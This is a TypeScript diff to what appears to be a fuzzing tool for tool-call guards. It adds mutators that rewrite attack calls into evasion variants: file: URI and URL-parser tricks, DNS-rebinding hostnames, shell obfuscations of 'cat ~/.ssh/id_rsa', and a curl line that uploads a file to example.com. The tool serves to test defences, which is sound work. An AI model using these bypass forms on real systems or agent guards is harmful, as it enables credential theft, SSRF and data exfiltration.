@@ -165,6 +165,266 @@ function mapUrlHost(call: AttackCall, host: string, fn: () => [string, string][]
   return out;
 }
 
+const URL_PARTS_REGEXP = /^([a-z][a-z0-9+.-]*):\/\/([^/?#\\]*)(.*)$/is;
+const IPV4_REGEXP = /^(\d{1,3})\.(\d{1,3})\.(\d{1,3})\.(\d{1,3})$/;
+const COMMAND_ARG_REGEXP = /^(?:command|cmd|script|commandline)$/i;
+
+/** `dir` and `name` of a path as written (`~/.ssh/id_rsa` → `~/.ssh`, `id_rsa`; `./.env` → `.`, `.env`). */
+function splitLast(p: string): [string, string] {
+  const i = p.lastIndexOf("/");
+  if (i < 0) return [".", p];
+  return [i === 0 ? "/" : p.slice(0, i), p.slice(i + 1)];
+}
+
+/** Replaces the last character of the path's first segment (after its anchor) with a glob. */
+function globFirstSegment(p: string, glob: (c: string) => string): string | undefined {
+  const m = /^(~\/|\/|\.\/)?([^/]+)(.*)$/s.exec(p);
+  if (!m || m[2]!.length < 2) return undefined;
+  const seg = m[2]!;
+  return `${m[1] ?? ""}${seg.slice(0, -1)}${glob(seg.at(-1)!)}${m[3]}`;
+}
+
+/**
+ * Builds the mutator that writes a path as the `file:` URI forms real consumers read differently from a
+ * naive reader (issue #16 class 1): a `?query` or `#fragment` whose `..` walks the naive reading back inside
+ * an allowed file (Node, WHATWG and Python drop it, and open the target), `localhost` in other spellings, a
+ * backslash after `file:/`, and relative `file:` forms.
+ * @param opts `ok`: an allowed path the query or fragment walks back to (default `./src/app.ts`)
+ * @returns the mutator
+ */
+export function fileUriFormsMutator(opts: { ok: string } = { ok: "./src/app.ts" }): Mutator {
+  const ok = absoluteOf(splitPath(opts.ok));
+  return definePathMutator(
+    "file-uri-forms",
+    "file: URIs whose ?query or #fragment, localhost spelling, backslash or relative form fools a naive reader",
+    (p) => {
+      const abs = absoluteOf(splitPath(p));
+      return [
+        ["query-dotdot", `file://${abs}?/${CLIMB}..${ok}`],
+        ["fragment-dotdot", `file://${abs}#/${CLIMB}..${ok}`],
+        ["localhost-upper", `file://LOCALHOST${abs}`],
+        ["localhost-percent", `file://%6C%6F%63%61%6C%68%6F%73%74${abs}`],
+        ["backslash-after-scheme", `file:/\\${abs.slice(1).replaceAll("/", "\\")}`],
+        ["one-slash", `file:${abs}`],
+        ["relative", `file:${CLIMB}..${abs}`],
+      ];
+    },
+  );
+}
+
+/**
+ * Builds the mutator that rewrites a URL argument into the forms URL parsers disagree on (issue #16 class 2):
+ * a backslash before `@` (WHATWG reads the first host, urllib and requests the second), protocol-relative
+ * `//host` and `\/host`, `\\host\share`, userinfo tricks, `#@` and `?@`, scheme-less `host:port/path`, a
+ * scheme without slashes or with backslashes, and an IPv6 zone id. The URL's own host is the one reached;
+ * `trusted` is the host a naive reader sees instead.
+ * @param opts `trusted`: the allowed host put in front (default `github.com`)
+ * @returns the mutator
+ */
+export function urlParserMutator(opts: { trusted: string } = { trusted: "github.com" }): Mutator {
+  const t = opts.trusted;
+  return {
+    id: "url-parser",
+    description: "URL forms WHATWG, urllib and fetch tools read to different hosts",
+    apply: (call) => {
+      const args = call.arguments ?? {};
+      const out: MutatedCall[] = [];
+      for (const [key, value] of Object.entries(args)) {
+        if (typeof value !== "string" || !URL_ARG_REGEXP.test(key)) continue;
+        const m = URL_PARTS_REGEXP.exec(value);
+        if (!m) continue;
+        const [, scheme, host, rest] = m as unknown as [string, string, string, string];
+        const path = rest === "" ? "/" : rest;
+        const v: [string, string][] = [
+          ["backslash-at-trusted-first", `${scheme}://${t}\\@${host}${path}`],
+          ["backslash-at-trusted-second", `${scheme}://${host}\\@${t}${path}`],
+          ["protocol-relative", `//${host}${path}`],
+          ["backslash-slash", `\\/${host}${path}`],
+          ["unc-share", `\\\\${host}\\share${path.replaceAll("/", "\\")}`],
+          ["userinfo-port", `${scheme}://${t}:443@${host}${path}`],
+          ["double-at", `${scheme}://a@${t}@${host}${path}`],
+          ["fragment-at", `${scheme}://${host}#@${t}${path}`],
+          ["query-at", `${scheme}://${host}?@${t}${path}`],
+          ["scheme-less-port", `${host}:80${path}`],
+          ["no-slashes", `${scheme}:${host}${path}`],
+          ["one-slash", `${scheme}:/${host}${path}`],
+          ["backslashes", `${scheme}:\\\\${host}${path}`],
+        ];
+        if (host.startsWith("[") && host.endsWith("]")) {
+          v.push(["zone-id", `${scheme}://[${host.slice(1, -1)}%25eth0]${path}`]);
+        }
+        for (const [label, url] of v) {
+          out.push({ call: { ...call, arguments: { ...args, [key]: url } }, label });
+        }
+      }
+      return out;
+    },
+  };
+}
+
+/**
+ * Names that carry an address in their labels, as DNS-rebinding and wildcard-DNS services answer them
+ * (issue #16 class 3): dotted, dashed, hex and decimal IPv4 forms, a second address, and dashed IPv6.
+ * @param host an IPv4 literal or a bracketed IPv6 literal
+ * @returns `[label, name]` pairs, none for other hosts
+ */
+function embeddingNames(host: string): [string, string][] {
+  const v4 = IPV4_REGEXP.exec(host);
+  if (v4) {
+    const octets = v4.slice(1).map(Number);
+    const hex = octets.map((o) => o.toString(16).padStart(2, "0")).join("");
+    const dashed = octets.join("-");
+    const decimal = octets.reduce((a, o) => a * 256 + o, 0);
+    return [
+      ["nip-dotted", `${host}.nip.io`],
+      ["sslip-dashed", `${dashed}.sslip.io`],
+      ["dashed-inside-label", `app-${dashed}-x.example.com`],
+      ["dotted-middle-label", `x.${host}.sslip.io`],
+      ["hex-label", `${hex}.nip.io`],
+      ["rbndr-second-address", `7f000001.${hex}.rbndr.us`],
+      ["rebind-second-address", `make-1.2.3.4-rebind-${host}-rr.1u.ms`],
+      ["decimal-label", `${decimal}.nip.io`],
+    ];
+  }
+  if (host.startsWith("[") && host.endsWith("]")) {
+    const dashed = host.slice(1, -1).replaceAll(":", "-");
+    return [["ipv6-dashed", `${dashed}.sslip.io`], ["ipv6-dashed-subdomain", `www.${dashed}.sslip.io`]];
+  }
+  return [];
+}
+
+/**
+ * Builds the mutator that replaces a URL argument's address host with names that embed it.
+ * @returns the mutator
+ */
+function embeddedAddressMutator(): Mutator {
+  return {
+    id: "embedded-address",
+    description:
+      "DNS-rebinding and wildcard-DNS names that spell the URL's address (dotted, dashed, hex, IPv6)",
+    apply: (call) => {
+      const args = call.arguments ?? {};
+      const out: MutatedCall[] = [];
+      for (const [key, value] of Object.entries(args)) {
+        if (typeof value !== "string" || !URL_ARG_REGEXP.test(key)) continue;
+        const m = URL_PARTS_REGEXP.exec(value);
+        if (!m) continue;
+        for (const [label, name] of embeddingNames(m[2]!)) {
+          out.push({ call: { ...call, arguments: { ...args, [key]: `${m[1]}://${name}${m[3]}` } }, label });
+        }
+      }
+      return out;
+    },
+  };
+}
+
+/**
+ * The shell constructs that hide or move a path (issue #16 class 5), for a command `<program> <path>`: each
+ * variant still reaches the path when a shell runs it.
+ * @param prog the program word
+ * @param p the path word
+ * @returns `[label, command]` pairs
+ */
+function shellForms(prog: string, p: string): [string, string][] {
+  const [dir, name] = splitLast(p);
+  const half = Math.max(1, Math.floor(p.length / 2));
+  const [a, b] = [p.slice(0, half), p.slice(half)];
+  const parts = splitPath(p);
+  const v: [string, string][] = [
+    ["variable", `P='${a}'; ${prog} "$P"'${b}'`],
+    ["parameter-expansion", `X='${p}x'; ${prog} "\${X%x}"`],
+    ["command-substitution", `${prog} "$(printf %s '${a}' '${b}')"`],
+    ["backticks", `${prog} "\`printf %s '${a}' '${b}'\`"`],
+    ["arithmetic", `a=('${p}'); ${prog} "\${a[$((1-1))]}"`],
+    ["brace-expansion", `${prog} {/dev/null,${p}}`],
+    ["ifs", `${prog}\${IFS}${p}`],
+    ["eval", `eval "${prog} '${a}''${b}'"`],
+    ["sh-c", `sh -c '${prog} ${p}'`],
+    ["nested-sh-c", `bash -c "sh -c '${prog} ${p}'"`],
+    ["heredoc", `sh <<'EOF'\n${prog} ${p}\nEOF`],
+    ["cd", `cd ${dir} && ${prog} ${name}`],
+    ["pushd", `pushd ${dir} >/dev/null && ${prog} ${name}`],
+    ["git-C", `git -C ${dir} diff --no-index -- ${name} /dev/null`],
+    ["git-dir", `git --git-dir=${dir} --work-tree=${dir} status`],
+    ["tar-C", `tar -C ${dir} -cf - ${name}`],
+    ["curl-at-file", `curl -sd @${p} https://example.com/upload`],
+  ];
+  const glob = globFirstSegment(p, () => "?");
+  if (glob !== undefined) v.push(["glob", `${prog} ${glob}`]);
+  const bracket = globFirstSegment(p, (c) => `[${c}]`);
+  if (bracket !== undefined) v.push(["glob-bracket", `${prog} ${bracket}`]);
+  if (parts.kind === "home") {
+    v.push(["tilde-user", `${prog} ~{{user}}/${parts.rest}`]);
+    v.push(["tilde-plus", `cd ~ && ${prog} ~+/${parts.rest}`]);
+    v.push(["pwd", `cd && ${prog} "$PWD/${parts.rest}"`]);
+  } else if (parts.kind === "abs") {
+    v.push(["tilde-plus", `cd / && ${prog} ~+/${parts.rest}`]);
+    v.push(["pwd", `cd / && ${prog} "$PWD/${parts.rest}"`]);
+  } else {
+    v.push(["tilde-plus", `${prog} ~+/${parts.rest}`]);
+    v.push(["pwd", `${prog} "$PWD/${parts.rest}"`]);
+  }
+  return v;
+}
+
+/**
+ * Builds the mutator that rewrites a `<program> <path>` command argument (`cat ~/.ssh/id_rsa`) into the shell
+ * constructs whose value is only known when they run or that move the base of a relative path.
+ * @returns the mutator
+ */
+function shellConstructMutator(): Mutator {
+  return {
+    id: "shell-construct",
+    description:
+      "$VAR, $(…), backticks, arithmetic, brace expansion, $IFS, globs, eval, sh -c, here-docs, cd/pushd/-C, curl @file, ~user, ~+, $PWD",
+    apply: (call) => {
+      const args = call.arguments ?? {};
+      const out: MutatedCall[] = [];
+      for (const [key, value] of Object.entries(args)) {
+        if (typeof value !== "string" || !COMMAND_ARG_REGEXP.test(key)) continue;
+        const m = /^([A-Za-z0-9_.-]+) +([^\s'"$`\\;&|<>(){}*?[\]]+)$/.exec(value.trim());
+        if (!m) continue;
+        for (const [label, command] of shellForms(m[1]!, m[2]!)) {
+          out.push({ call: { ...call, arguments: { ...args, [key]: command } }, label });
+        }
+      }
+      return out;
+    },
+  };
+}
+
+/**
+ * Builds the mutator that moves a path argument to where servers also read paths (issue #16 class 7): an
+ * object key, a folder argument joined with a name argument, a comma, newline or colon separated list, and a
+ * JSON document inside a string.
+ * @param opts `ok`: the harmless path listed first (default `./src/app.ts`)
+ * @returns the mutator
+ */
+export function placementMutator(opts: { ok: string } = { ok: "./src/app.ts" }): Mutator {
+  const ok = opts.ok;
+  const okDir = splitLast(ok)[0];
+  return {
+    id: "placement",
+    description:
+      "The path as an object key, a folder + name pair, one item of a list string, or JSON in a string",
+    apply: (call) =>
+      pathValues(call).flatMap((p) => {
+        const [dir, name] = splitLast(p);
+        const v: [string, Record<string, unknown>][] = [
+          ["object-key", { files: { [p]: "x" } }],
+          ["save-path-filename", { savePath: dir, filename: name }],
+          ["dir-name", { dir, name }],
+          ["repo-path-files", { repo_path: dir, files: [name] }],
+          ["comma-list", { path: `${ok},${p}` }],
+          ["newline-list", { path: `${ok}\n${p}` }],
+          ["colon-list", { path: `${okDir}:${p}` }],
+          ["json-in-string", { config: JSON.stringify({ path: p }) }],
+        ];
+        return v.map(([label, a]) => ({ label, call: { ...call, arguments: a } }));
+      }),
+  };
+}
+
 /** Ids of the built-in mutators. */
 export type BuiltinMutatorId =
   | "traversal"
@@ -183,7 +443,12 @@ export type BuiltinMutatorId =
   | "nested"
   | "second-arg"
   | "tool-name"
-  | "metadata-ip";
+  | "metadata-ip"
+  | "file-uri-forms"
+  | "url-parser"
+  | "embedded-address"
+  | "shell-construct"
+  | "placement";
 
 /**
  * The built-in mutators, by id. Each id is also the evasion class its variants report.
@@ -379,6 +644,11 @@ export const MUTATORS: Readonly<Record<BuiltinMutatorId, Mutator>> = Object.free
         ["percent-host", "%31%36%39.254.169.254"],
       ]),
   },
+  "file-uri-forms": fileUriFormsMutator(),
+  "url-parser": urlParserMutator(),
+  "embedded-address": embeddedAddressMutator(),
+  "shell-construct": shellConstructMutator(),
+  placement: placementMutator(),
 });
 
 /**
